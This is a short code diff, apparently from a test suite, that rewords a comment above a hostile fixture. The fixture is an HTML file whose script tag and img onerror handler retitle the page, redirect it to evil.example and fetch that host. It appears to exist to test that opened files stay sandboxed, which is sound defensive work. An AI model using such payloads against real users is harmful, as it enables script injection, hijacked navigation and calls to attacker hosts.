@@ -7,7 +7,7 @@ const world = consoleWorld();
 
 /** One pixel. */
 const PICTURE = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
-/** What a file of evidence would do to the person who opens the file: change the console, leave it, and call home. */
+/** A hostile file changes the console, leaves it, and calls home. */
 const SCRIPT = 'top.document.title = "owned"; top.location = "https://evil.example/"; fetch("https://evil.example/")';
 const HOSTILE = {
   'answer.html': `<script>${SCRIPT}</script><img src="https://evil.example/pixel" onerror='${SCRIPT}'>`,
